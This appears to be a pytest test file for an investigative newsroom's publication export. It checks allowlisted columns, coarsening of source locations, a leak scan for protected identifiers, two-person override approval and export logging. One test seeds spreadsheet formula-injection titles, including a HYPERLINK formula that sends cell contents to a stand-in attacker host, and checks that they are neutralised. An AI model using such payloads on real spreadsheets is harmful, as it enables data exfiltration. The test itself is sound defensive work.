"""The publication export: only publishable events and allowlisted columns, places tied to
sources coarsened, a leak scan that refuses identifiers (or an Admin's logged override), a log
of every export, Admins only, and the large-export task on a real worker."""

import csv
import datetime
import hashlib
import io
import json
import time
from types import SimpleNamespace

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import CommandError, call_command
from django.test.utils import override_settings
from django.urls import reverse

from investigation.models import LeakOverride, PublicationExport
from sources.models import IdentityAccess, Source
from stories.models import OverrideApproval
from stories.publication.export import override_decide, override_request, publication_export
from stories.publication.rows import COLUMNS
from stories.publication.scan import NEAR_PLACE, WRITTEN_NEAR_PLACE
from tests.factories import (
    make_event,
    make_interview,
    make_location,
    make_member,
    make_source,
)
from tests.waiting import wait_for

REAL_NAME = "Zahir Quuxbaum"
CONTACT = "+964 771 234 9876; Signal @zq_hawija; zahir.q@example.org"
NOTES = "Lieutenant in the third battalion, lives behind the Hawija grain silo"
FORMATS = ["csv", "xlsx", "json", "geojson"]


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path, monkeypatch):
    settings.MEDIA_ROOT = tmp_path / "private"
    monkeypatch.setenv("MEDIA_ROOT", str(settings.MEDIA_ROOT))  # for a Celery worker's process
    return settings.MEDIA_ROOT


@pytest.fixture
def desk(cast, investigation):
    """A cleared source with a protected identity, interviewed in a village about two events:
    one in the village, one in the district's town."""
    village = make_location(
        investigation, name="Umm al-Khanazir", admin1="Kirkuk", admin2="Hawija",
        latitude=35.41237, longitude=43.69481,
    )  # fmt: skip
    town = make_location(
        investigation, name="Hawija town", admin1="Kirkuk", admin2="Hawija",
        latitude=35.3301, longitude=43.7702,
    )  # fmt: skip
    source = make_source(
        investigation, cast["reporter"], real_name=REAL_NAME, contact=CONTACT,
        identifying_notes=NOTES, review_status=Source.ReviewStatus.CLEARED,
    )  # fmt: skip
    raid = make_event(
        investigation, title="Night raid on the market", location=town, publishable=True,
        external_id="IRQ100", date=datetime.date(2019, 5, 14), date_precision="day",
        fatalities=3, description="Soldiers entered the market at night.", status="corroborated",
    )  # fmt: skip
    strike = make_event(
        investigation, title="Strike near the village", location=village, publishable=True,
        date=datetime.date(2019, 6, 18), date_precision="month", description="A house was hit.",
    )  # fmt: skip
    make_interview(
        investigation, cast["reporter"], sources=[source], events=[raid], location=village
    )
    return SimpleNamespace(source=source, raid=raid, strike=strike, village=village, town=town)


def export(investigation, user, tmp_path, fmt="csv", **kwargs):
    output = tmp_path / f"export.{fmt}"
    result = publication_export(
        investigation=investigation, fmt=fmt, user=user, output=output, **kwargs
    )
    return result, output


def read(path, fmt="csv"):
    """The exported rows as dicts of text (as a spreadsheet would show them)."""
    if fmt == "csv":
        return list(csv.DictReader(path.open(encoding="utf-8")))
    if fmt == "xlsx":
        rows = list(openpyxl.load_workbook(path, read_only=True).active.values)
        return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    document = json.loads(path.read_text())
    if fmt == "geojson":
        return [feature["properties"] for feature in document["features"]]
    return document


def findings(result):
    return [(f["row"], f["event"], f["field"], f["codename"], f["kind"]) for f in result.findings]


# What goes out ---------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_holds_only_publishable_events_in_allowlisted_columns(
    cast, investigation, other_investigation, desk, tmp_path, fmt
):
    make_event(investigation, title="Not yet publishable", publishable=False)
    uncleared = make_source(investigation, cast["reporter"])
    resting = make_event(investigation, title="Rests on an uncleared source", publishable=True)
    make_interview(investigation, cast["reporter"], sources=[uncleared], events=[resting])
    make_event(other_investigation, title="Another desk's event", publishable=True)

    result, output = export(investigation, cast["admin"], tmp_path, fmt)

    assert result.status == "done", result.findings
    rows = read(output, fmt)
    assert [row["title"] for row in rows] == ["Night raid on the market", "Strike near the village"]
    expected = set(COLUMNS) - ({"latitude", "longitude"} if fmt == "geojson" else set())
    assert set(rows[0]) == expected


def test_the_columns_follow_acled_where_they_overlap(cast, investigation, desk, tmp_path):
    result, output = export(investigation, cast["admin"], tmp_path)
    raid = read(output)[0]
    assert raid == {
        "event_id_cnty": "IRQ100",
        "event_date": "2019-05-14",
        "time_precision": "1",
        "event_type": "Raid",
        "kind": "raid",
        "actor1": "",
        "assoc_actor_1": "",
        "inter1": "",
        "actor2": "",
        "assoc_actor_2": "",
        "inter2": "",
        "admin1": "Kirkuk",
        "admin2": "Hawija",
        "location": "Hawija town",
        "latitude": "35.3301",
        "longitude": "43.7702",
        "geo_precision": "1",
        "fatalities": "3",
        "notes": "Soldiers entered the market at night.",
        "title": "Night raid on the market",
        "status": "corroborated",
    }


def test_a_place_where_a_source_was_interviewed_goes_out_as_its_district_only(
    cast, investigation, desk, tmp_path
):
    result, output = export(investigation, cast["admin"], tmp_path, "geojson")
    document = json.loads(output.read_text())
    strike = document["features"][1]
    assert strike["properties"]["location"] == "Hawija"  # not "Umm al-Khanazir"
    assert strike["properties"]["geo_precision"] == 3
    # The centre of the district's places, to 0.1°: not the village's point.
    assert strike["geometry"]["coordinates"] == [43.7, 35.4]
    assert "Umm al-Khanazir" not in output.read_text()
    assert "35.412" not in output.read_text()


@pytest.mark.parametrize(
    ("precision", "date", "shown", "code"),
    [
        ("day", datetime.date(2019, 6, 18), "2019-06-18", "1"),
        ("week", datetime.date(2019, 6, 20), "2019-06-17", "2"),
        ("month", datetime.date(2019, 6, 18), "2019-06-01", "3"),
        ("year", datetime.date(2019, 6, 18), "2019", "3"),
    ],
)
def test_dates_go_out_only_as_precisely_as_they_are_known(
    cast, investigation, tmp_path, precision, date, shown, code
):
    make_event(investigation, publishable=True, date=date, date_precision=precision)
    result, output = export(investigation, cast["admin"], tmp_path)
    row = read(output)[0]
    assert (row["event_date"], row["time_precision"]) == (shown, code)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_in_an_event_goes_out_as_plain_text(cast, investigation, tmp_path, fmt):
    for title in ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-3+4", "@SUM(A1)"]:
        make_event(investigation, title=title, publishable=True)

    result, output = export(investigation, cast["admin"], tmp_path, fmt)

    titles = sorted(row["title"] for row in read(output, fmt))
    assert all(title.startswith("'") for title in titles), titles
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(output).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_identity_reaches_an_export_in_any_format(cast, investigation, desk, tmp_path, fmt):
    result, output = export(investigation, cast["admin"], tmp_path, fmt)

    data = output.read_bytes()
    for canary in (REAL_NAME, "Quuxbaum", "771 234 9876", "zq_hawija", "zahir.q", "grain silo"):
        assert canary.encode() not in data
    assert b"fb1:" not in data  # no ciphertext either
    assert not IdentityAccess.objects.exists()  # the scan reads in memory, reveals to nobody
    assert result.sources_scanned == 1


# The leak scan ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "text", "kind"),
    [
        ("description", "Witness Zahir Quuxbaum saw the convoy.", "name"),
        ("description", "Mr QUUXBAUM said the convoy came at two.", "name part"),
        ("title", "Raid on the Quuxbaum family", "name part"),
        ("description", "Call 0771-234-9876 for details.", "phone"),
        ("description", "Number: 009647712349876 (two calls).", "phone"),
        ("description", "Reached on (0771) 234.9876", "phone"),
        ("description", "Posted by @zq_hawija on Telegram.", "handle"),
        ("description", "Mail zahir.q@example.org for photos.", "email"),
        ("description", "Met at 35.41237, 43.69481 at dusk.", WRITTEN_NEAR_PLACE),
    ],
)
def test_the_leak_scan_refuses_an_export_that_holds_a_protected_identifier(
    cast, investigation, desk, tmp_path, field, text, kind
):
    make_event(
        investigation,
        publishable=True,
        external_id="IRQ7",
        date=datetime.date(2020, 1, 1),
        **{field: text},
    )

    result, output = export(investigation, cast["admin"], tmp_path)

    assert result.status == "refused"
    notes = "notes" if field == "description" else field
    assert (3, "IRQ7", notes, desk.source.codename, kind) in findings(result)
    assert not output.exists()
    assert not list(tmp_path.glob("*.partial"))
    # The report names where and whose, never what.
    report = json.dumps(result.findings)
    assert "Quuxbaum" not in report and "9876" not in report and "zq_hawija" not in report


def test_an_exact_point_where_a_source_was_interviewed_is_refused(
    cast, investigation, desk, tmp_path
):
    same_point = make_location(investigation, name="Farm", latitude=35.41237, longitude=43.69481)
    make_event(investigation, publishable=True, location=same_point, external_id="IRQ8")

    result, output = export(investigation, cast["admin"], tmp_path)

    assert result.status == "refused"
    assert findings(result) == [(1, "IRQ8", "latitude/longitude", desk.source.codename, NEAR_PLACE)]


def test_common_given_names_alone_do_not_trip_the_scan_but_a_family_name_does(
    cast, investigation, tmp_path
):
    make_source(
        investigation, cast["reporter"], real_name="Ali Hassan al-Quuxbaumi", contact="",
        review_status=Source.ReviewStatus.CLEARED,
    )  # fmt: skip
    make_event(investigation, publishable=True, description="Ali said Hassan left with Abu.")
    assert export(investigation, cast["admin"], tmp_path)[0].status == "done"

    make_event(investigation, publishable=True, description="The Quuxbaumi house was hit.")
    refused = export(investigation, cast["admin"], tmp_path)[0]
    assert [finding["kind"] for finding in refused.findings] == ["name part"]


def test_the_scan_fails_closed_when_identities_cannot_be_read(cast, investigation, desk, tmp_path):
    with override_settings(FIELD_ENCRYPTION_KEYS=[b"k" * 32]):
        result, output = export(investigation, cast["admin"], tmp_path)
    assert result.status == "failed" and "encryption" in result.error
    assert not output.exists()


# Overrides and the log -------------------------------------------------------------------------


def test_an_override_approved_by_a_second_person_lets_the_export_out_and_is_logged(
    cast, investigation, desk, tmp_path
):
    make_event(investigation, publishable=True, external_id="IRQ9", description="Quuxbaum spoke.")
    refused, _ = export(investigation, cast["admin"], tmp_path)
    reason = "Quuxbaum is the provincial governor's public name, not our source's here."
    approval = override_request(export=refused, user=cast["admin"], reason=reason)
    override_decide(
        approval=approval, user=cast["editor"], approve=True, note="Checked IRQ9 myself today."
    )

    result, output = export(investigation, cast["admin"], tmp_path, approval=approval)

    assert result.status == "done" and result.overridden
    override = LeakOverride.objects.get()
    assert override.user == cast["admin"]
    assert override.reason.startswith(reason) and "Approved by editor" in override.reason
    assert (override.row, override.event, override.field) == (1, "IRQ9", "notes")
    assert (override.codename, override.kind) == (desk.source.codename, "name part")
    assert "Quuxbaum spoke." in output.read_text()
    approval.refresh_from_db()
    assert (approval.status, approval.used_by) == ("used", result)


def test_nobody_approves_their_own_override(cast, investigation, desk, tmp_path):
    make_event(investigation, publishable=True, description="Quuxbaum spoke.")
    refused, _ = export(investigation, cast["admin"], tmp_path)
    approval = override_request(
        export=refused, user=cast["admin"], reason="The governor shares this name; checked."
    )
    with pytest.raises(PermissionDenied, match="Someone other than"):
        override_decide(approval=approval, user=cast["admin"], approve=True, note="Fine by me.")
    with pytest.raises(PermissionDenied, match="Editors and Admins"):
        override_decide(approval=approval, user=cast["reporter"], approve=True, note="Fine, ok.")
    with pytest.raises(PermissionDenied, match="needs a second person"):
        export(investigation, cast["admin"], tmp_path, approval=approval)
    approval.refresh_from_db()
    assert approval.status == "pending"
    assert not LeakOverride.objects.exists()


def test_an_approval_covers_only_the_findings_it_was_given(cast, investigation, desk, tmp_path):
    make_event(investigation, publishable=True, external_id="IRQ9", description="Quuxbaum spoke.")
    refused, _ = export(investigation, cast["admin"], tmp_path)
    approval = override_request(
        export=refused, user=cast["admin"], reason="The governor shares this name; checked."
    )
    override_decide(approval=approval, user=cast["editor"], approve=True, note="Checked IRQ9.")
    make_event(
        investigation, publishable=True, external_id="IRQ10", description="Call 0771 234 9876"
    )

    again, output = export(investigation, cast["admin"], tmp_path, approval=approval)

    assert again.status == "refused" and "New findings" in again.error
    assert not output.exists()
    approval.refresh_from_db()
    assert (approval.status, approval.used_by) == ("approved", None)  # usable once fixed


def test_an_override_needs_a_written_reason(cast, investigation, desk, tmp_path):
    make_event(investigation, publishable=True, description="Quuxbaum spoke.")
    refused, _ = export(investigation, cast["admin"], tmp_path)
    with pytest.raises(PermissionDenied, match="Say why"):
        override_request(export=refused, user=cast["admin"], reason="ok")
    assert not OverrideApproval.objects.exists()


@pytest.mark.parametrize("role", ["reporter", "editor", "outsider"])
def test_only_an_admin_of_the_investigation_exports(cast, investigation, desk, tmp_path, role):
    with pytest.raises(PermissionDenied):
        export(investigation, cast[role], tmp_path)
    assert not PublicationExport.objects.exists()


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_export_is_logged_with_the_sha256_of_its_file(
    cast, investigation, desk, tmp_path, fmt
):
    result, output = export(investigation, cast["admin"], tmp_path, fmt)

    logged = PublicationExport.objects.get()
    assert (logged.user, logged.format, logged.rows, logged.overridden) == (
        cast["admin"],
        fmt,
        2,
        False,
    )
    assert logged.sha256 == hashlib.sha256(output.read_bytes()).hexdigest()
    assert logged.path == str(output)


def test_a_refused_export_is_logged_too(cast, investigation, desk, tmp_path):
    make_event(investigation, publishable=True, description=REAL_NAME)
    export(investigation, cast["admin"], tmp_path)
    logged = PublicationExport.objects.get()
    assert (logged.status, logged.sha256, logged.overridden) == ("refused", "", False)
    assert logged.findings[0]["codename"] == desk.source.codename


# The command -----------------------------------------------------------------------------------


def test_the_command_exports_and_prints_the_checksum(cast, investigation, desk, tmp_path):
    output = tmp_path / "story.csv"
    out = io.StringIO()
    call_command(
        "export_publication", "--investigation", investigation.slug, "--format", "csv",
        "--output", str(output), "--user", "admin", stdout=out,
    )  # fmt: skip
    assert f"Wrote 2 events to {output}" in out.getvalue()
    assert hashlib.sha256(output.read_bytes()).hexdigest() in out.getvalue()
    assert PublicationExport.objects.get().user == cast["admin"]


def test_the_command_reports_findings_by_row_field_and_codename_only(
    cast, investigation, desk, tmp_path
):
    make_event(
        investigation, publishable=True, external_id="IRQ5", description="Call 0771 234 9876."
    )
    err = io.StringIO()
    with pytest.raises(CommandError, match="Refused"):
        call_command(
            "export_publication", "--investigation", investigation.slug, "--format", "json",
            "--output", str(tmp_path / "story.json"), stderr=err,
        )  # fmt: skip
    assert err.getvalue() == f"row 1 (event IRQ5), notes: phone of source {desk.source.codename}\n"
    assert not (tmp_path / "story.json").exists()


def test_the_command_refuses_a_user_who_is_no_admin(cast, investigation, tmp_path):
    with pytest.raises(CommandError, match="Only the investigation's Admins"):
        call_command(
            "export_publication", "--investigation", investigation.slug, "--format", "csv",
            "--output", str(tmp_path / "x.csv"), "--user", "editor",
        )  # fmt: skip


# The admin page --------------------------------------------------------------------------------


def export_url(investigation):
    return reverse("admin:investigation_publication_export", args=[investigation.pk])


def test_a_small_export_from_the_admin_downloads_at_once(client, cast, investigation, desk):
    client.force_login(cast["admin"])
    page = client.get(reverse("admin:investigation_investigation_change", args=[investigation.pk]))
    assert export_url(investigation) in page.content.decode()

    response = client.post(export_url(investigation), {"format": "csv"})

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(
        'attachment; filename="raids-in-kirkuk-publication-'
    )
    body = b"".join(response.streaming_content)
    assert body.startswith(b"event_id_cnty,event_date")
    assert hashlib.sha256(body).hexdigest() == PublicationExport.objects.get().sha256


def test_a_refused_export_goes_out_only_after_a_second_person_approves_in_the_admin(
    client, cast, investigation, desk
):
    make_event(investigation, publishable=True, external_id="IRQ3", description=REAL_NAME)
    client.force_login(cast["admin"])

    refused = client.post(export_url(investigation), {"format": "csv"})

    page = refused.content.decode()
    assert refused.status_code == 200 and "Refused" in page
    assert desk.source.codename in page and "IRQ3" in page and REAL_NAME not in page
    assert "\u2588" in page  # the finding's text, masked
    export_row = PublicationExport.objects.get()
    reason = "Checked: the name in IRQ3 is a public official with the same name."
    asked = client.post(
        reverse("admin:stories_override_request", args=[export_row.pk]), {"reason": reason}
    )
    approval = OverrideApproval.objects.get()
    assert asked.status_code == 302 and asked["Location"] == approval.get_absolute_url()
    own = client.post(approval.get_absolute_url(), {"approve": "1", "note": "Looks fine to me."})
    assert own.status_code == 200 and "Approve" not in own.content.decode()
    assert OverrideApproval.objects.get().status == "pending"

    client.force_login(cast["editor"])
    decision = client.get(approval.get_absolute_url())
    assert decision.status_code == 200 and "IRQ3" in decision.content.decode()
    assert REAL_NAME not in decision.content.decode()
    note = "Opened IRQ3: the official's name, not our source."
    assert (
        client.post(approval.get_absolute_url(), {"approve": "1", "note": note}).status_code == 302
    )

    client.force_login(cast["admin"])
    done = client.post(export_url(investigation), {"format": "csv", "approval": approval.pk})
    assert done.status_code == 200 and done["Content-Disposition"].startswith("attachment")
    assert LeakOverride.objects.get().reason.startswith(reason)


@pytest.mark.parametrize("role", ["reporter", "editor"])
def test_reporters_and_editors_get_a_403_on_the_export_page(client, cast, investigation, role):
    client.force_login(cast[role])
    assert client.get(export_url(investigation)).status_code == 403
    assert client.post(export_url(investigation), {"format": "csv"}).status_code == 403
    page = client.get(reverse("admin:investigation_investigation_change", args=[investigation.pk]))
    assert export_url(investigation) not in page.content.decode()


def test_an_admin_of_one_investigation_cannot_export_another(client, cast, other_investigation):
    client.force_login(cast["admin"])
    assert client.post(export_url(other_investigation), {"format": "csv"}).status_code == 404


def test_an_export_can_be_downloaded_only_by_the_investigations_admins(
    client, cast, investigation, other_investigation, desk
):
    result = publication_export(
        investigation=investigation, fmt="csv", user=cast["admin"], output=None
    )
    download = reverse("admin:investigation_publication_download", args=[result.pk])
    other_admin = make_member(other_investigation, "admin", "other-admin")
    for user, status in [(cast["editor"], 404), (other_admin, 404), (cast["admin"], 200)]:
        client.force_login(user)
        assert client.get(download).status_code == status


def test_a_command_line_export_elsewhere_is_not_handed_out(
    client, cast, investigation, desk, tmp_path
):
    result, output = export(investigation, cast["admin"], tmp_path)
    client.force_login(cast["admin"])
    assert (
        client.get(
            reverse("admin:investigation_publication_download", args=[result.pk])
        ).status_code
        == 404
    )


def test_a_large_export_runs_on_a_worker_with_progress_and_a_download_link(
    settings, celery_worker, client, cast, investigation, desk
):
    settings.PUBLICATION_EXPORT_ASYNC_ROWS = 1
    client.force_login(cast["admin"])

    response = client.post(export_url(investigation), {"format": "xlsx"})

    export_row = PublicationExport.objects.get()
    status_url = reverse("admin:investigation_publication_status", args=[export_row.pk])
    assert response.status_code == 302 and response["Location"] == status_url

    def finished():
        export_row.refresh_from_db()
        return export_row.status not in ("pending", "running")

    wait_for(finished)
    assert export_row.status == "done", celery_worker.log()
    assert "Download" in client.get(status_url).content.decode()
    download = client.get(export_row.get_download_url())
    body = b"".join(download.streaming_content)
    assert hashlib.sha256(body).hexdigest() == export_row.sha256
    assert export_row.rows == 2
    rows = list(openpyxl.load_workbook(io.BytesIO(body), read_only=True).active.values)
    assert rows[0] == COLUMNS and len(rows) == 3


def test_a_large_export_asked_while_redis_is_away_waits_and_runs_when_a_worker_sweeps(
    settings, client, cast, investigation, desk, django_capture_on_commit_callbacks
):
    """No 500 and no wait: the export is logged as waiting, and the beat's sweep runs it."""
    from investigation import celery_app
    from stories.tasks import start_waiting_exports
    from tests.harness import celery_app_using
    from tests.investigation.test_reminders import closed_port

    settings.PUBLICATION_EXPORT_ASYNC_ROWS = 1
    client.force_login(cast["admin"])
    down = f"redis://127.0.0.1:{closed_port()}/0"
    with (
        celery_app_using(celery_app, broker_url=down, queue="nowhere"),
        django_capture_on_commit_callbacks(execute=True) as callbacks,
    ):
        started = time.monotonic()
        response = client.post(export_url(investigation), {"format": "csv"})
    seconds = time.monotonic() - started  # the request and its hand-over to the broker

    assert len(callbacks) == 1  # the export was handed to the (absent) broker

    export_row = PublicationExport.objects.get()
    assert response.status_code == 302, response.content[:200]
    assert seconds < 5
    assert export_row.status == "pending"
    assert start_waiting_exports() == 1
    export_row.refresh_from_db()
    assert (export_row.status, export_row.rows) == ("done", 2)
